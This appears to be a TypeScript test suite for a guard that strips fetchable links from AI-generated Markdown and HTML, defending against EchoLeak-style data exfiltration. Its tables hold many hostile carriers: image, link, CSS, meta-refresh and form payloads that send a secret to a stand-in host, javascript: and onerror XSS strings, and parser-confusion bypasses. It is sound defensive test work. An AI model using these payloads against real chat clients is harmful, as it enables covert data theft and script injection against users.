import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { links } from '../../src/guards/links.ts';
import { ALLOWED, documents, hasFence, isAllowed } from './links-documents.ts';
import { fetchable, inert, RENDERERS } from './links-oracle.ts';

const URL = 'https://evil.example/log?q=secret';

/** SE-03: the ways in which an answer made a client fetch, from EchoLeak and what came after it. */
const CARRIERS: Readonly<Record<string, string>> = {
  'inline image': `![logo](${URL})`,
  'inline link': `[click](${URL} "title")`,
  'link in angle brackets': `[click](<${URL}>)`,
  'reference image': `![logo][ref]\n\n[ref]: ${URL}`,
  'reference link': `[click][ref]\n\n[ref]:\n  ${URL}\n  "title"`,
  'collapsed reference': `![ref][]\n\n[ref]: <${URL}>`,
  'shortcut reference': `> [ref]\n\n> [ref]: ${URL}`,
  autolink: `<${URL}>`,
  'URL in plain words': `See ${URL} and www.evil.example/a`,
  'linked image': `[![badge](/a.svg)](${URL})`,
  'HTML image': `<img alt='>' src = "${URL}">`,
  'HTML link': `<a\nhref=${URL}>a</a>`,
  'image set': `<img srcset="/a.png 1x, ${URL} 2x">`,
  'CSS url': `<p style="background: url(${URL})">a</p>`,
  'CSS import': `<style>@import "${URL}";</style>`,
  'data URL': '[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,%3Csvg%3E)',
  'script URL': '[a](javascript:alert(1)) <a href="java&#10;script:alert(1)">b</a>',
  'scheme-relative': '![a](//evil.example/a) <img src=//evil.example/a> //evil.example/a',
  'meta refresh': `<meta http-equiv="refresh" content="0; url=${URL}">`,
  form: `<form action="${URL}"><button formaction="${URL}">a</button></form>`,
  svg: `<svg><image xlink:href="${URL}"/><a href="${URL}">a</a></svg>`,
  'event handler': '<details open ontoggle="alert(1)">',
  frame: `<iframe srcdoc="<img src=${URL}>"></iframe>`,
  'user name that looks like a host': '![a](https://ok.com@evil.example/a) https://ok.com:x@evil.example',
  backslash: '[a](https:\\\\evil.example) [b](/\\evil.example) <img src="\\\\evil.example/a">',
  'look-alike host': '![a](https://ok.c\u03bfm/a) https://ok.com\u3002evil.example https://ok\uff0ecom.evil.example',
  'entities in a scheme':
    '[a](https&colon;//evil.example) ![b](&#104;ttps://evil.example) <img src="&#x68;ttps://evil.example">',
  'tab and line end in a scheme': '<a href="ht\ttps://evil.example">a</a> <img src="https:\n//evil.example">',
  'escapes in Markdown': '[a](https\\://evil.example) [b](\\/\\/evil.example)',
  'quotation in the middle': '> [a](\n> javascript:alert(1)) <img\n> src=https://evil.example>',
  'URL behind a quotation mark': `<b title="](${URL})">"><img src=${URL}>`,
  ping: `<a href="/a" ping="${URL}">a</a>`,
  base: '<base href="//evil.example"><img src="a.png">',
};

/** What once led off the list, or would without the rule that its name tells. */
const ONCE: Readonly<Record<string, string>> = {
  'slashes behind `<` become no tag': '<//onclick=alert(1)/\n> ![',
  'a mark before an image takes no place of another': '!![a][b]\n\n[b]: //evil.com',
  '`www.` before a parenthesis becomes no link': 'www.(javascript:alert(1))',
  '`www.` before slashes becomes no host': 'www.//onclick=alert(1)/ ',
  'a bracket behind a host may be of a user name': 'https://port.com:8443![mailto:a@b.com?x=1https://',
  'an escaped backslash behind a host does not end it': 'https://b\u00fccher.example![\\\\mailto:a@b.com?x=1![',
  'an escaped tag behind a host goes on with it': 'https://ok.com<a.evil.com/ "',
  'an address swallows the scheme behind it': 'a@b.com_https://ok.com/a?u=https://evil.com ',
  'two question marks end a path': 'https://ok.com/??=https://evil.com',
  'emphasis ends a path': 'https://ok.com/**x**/https://evil.com',
  'an escape ends a path': 'https://ok.com/a\\=https://evil.com',
  'a bar in the line of a fence makes it the head of a table': 'a\n```>|\n---\n![x](https://evil.com)',
  'a lone carriage return ends a line': '>\r<?\n~~~\n<template><form action=//evil.com>',
  'the title of a definition swallows a fence': '[a]: /x "t\n\n```\nfoo"\n\nhttps://evil.com',
  'the label of a definition swallows a fence': '[a\n```\nb]: /x\n\n![x](https://evil.com)\n```',
  'an address in angle brackets fills in a message': 'x <?a@b.com> <.?body=x@evil.com>',
  'an autolink is a tag with attributes as HTML':
    '<https://ok.com/onclick=alert(1)> <https://ok.com/ onclick=alert(1)>',
  'HTML is cut by an empty line, and Markdown goes on inside its quotes':
    '<div title="\n\nhttps://ok.com/onclick=alert(1)/\n\n">',
  'marked leaves text in code elements as it is':
    '<code><b title="[a](/b/onclick=alert(1)/)"c> <b title="](/b) [a](/b/onclick=alert(1)/)">',
  'a table cuts a tag': '<code>\n\n| <b title="a | https://ok.com/onclick=alert(1)/ "> |\n|--|--|\n',
  'a value without quotes is cut by a replacement': '<a title=](https://evil.com/onclick=alert(1)/>',
  'marked 15 and 16 do not escape the words of an image': '![x" onerror="alert(1)](/a.png)',
  'a separator of lines ends no destination': '[a](https://ok.com\u2028.evil.com) [a](<https://ok.com\u2028>)',
  'a name or a value is cut by a replacement':
    '<code><b www.evil.com="https://ok.com/onclick=alert(1)/"> <b title=www.:x alt="https://ok.com/onclick=alert(1)/">',
  'a lone carriage return ends a fence, and a line': '```\nx\n```\r<img src=x onerror=alert(1)> \rhttps://evil.com ',
  'a lone carriage return before a quotation mark':
    '> ![a](\r> \\/\\/evil.com/?d=1)\n\n> [b]:\r> javascript:alert(1)\n\n[b]',
  'marked escapes the end of a tag in code behind an underscore':
    'a <code><x_> tabindex=1 autofocus onfocus=alert(1) <b <_> onclick=alert(1) ',
  'an empty line cuts a tag in a list': '- <div hidden\n\n  title=\'" onclick=alert(1) x="\'>',
  'an escaped backslash ends the label of a definition':
    '[a\\\\]: /x "t\n]y\n```\nfoo"\n\n![x](https://evil.com/?d=1)\n',
  'a name with a sign first': 'xmpp:.a@evil.com xmpp:-a@evil.com www.-<b.evil.com www.<b.evil.com',
  'a quotation mark of a block quote ends a tag for one reader only': '> <b\n> onclick=alert(1)>',
};

const streamed = (text: string, size: number): string => {
  const guard = links({ allowedHosts: ALLOWED });
  const reader = guard.reader();
  let shown = '';
  let from = 0;
  const show = (piece: string, last: boolean): void => {
    for (const { start, end } of reader.read(piece, last)) {
      shown += text.slice(from, start) + guard.replacement(text.slice(start, end));
      from = end;
    }
  };
  for (let at = 0; at < text.length; at += size) show(text.slice(at, at + size), false);
  show('', true);
  return shown + text.slice(from);
};

describe.each(Object.entries(RENDERERS))('shown through %s', (name, render) => {
  test.each(Object.entries(CARRIERS))(
    'SE-03: no URL of another host is left of an %s, whole and streamed',
    (_, text) => {
      expect(fetchable(render(inert(text, ALLOWED)), isAllowed)).toEqual([]);
      for (const size of [1, 3, 7]) expect(streamed(text, size)).toBe(inert(text, ALLOWED));
    },
  );

  test.each(Object.entries(ONCE))('%s', (_, text) => {
    expect(fetchable(render(inert(text, ALLOWED)), isAllowed)).toEqual([]);
    expect(streamed(text, 1)).toBe(inert(text, ALLOWED));
  });

  test('no hostile document leads off the list', () => {
    fc.assert(
      fc.property(documents, (text) => {
        if (name === 'html' && hasFence(text)) return; // a fence is left as it is, and HTML knows none
        expect(fetchable(render(inert(text, ALLOWED)), isAllowed)).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

test('the carriers do lead off the list as they stand', () => {
  for (const [name, text] of Object.entries(CARRIERS))
    expect(
      Object.values(RENDERERS).flatMap((render) => fetchable(render(text), isAllowed)),
      name,
    ).not.toEqual([]);
});

test('an image with a quotation mark in its words is a link from then on', () => {
  expect(inert('![x" onerror="alert(1)](/a.png)')).toBe('! [x" onerror="alert(1)](/a.png)');
});

const words = (text: string): readonly string[] => text.match(/[a-z]{4,}/gi) ?? [];

test('every word of the text can still be read', () => {
  fc.assert(
    fc.property(documents, (text) => {
      const kept = inert(text, ALLOWED).replace(/hxxp/gi, 'http').replace(/fxp/gi, 'ftp').toLowerCase();
      for (const word of words(text.toLowerCase())) expect(kept).toContain(word.replace(/^xttp/, 'http'));
    }),
  );
});
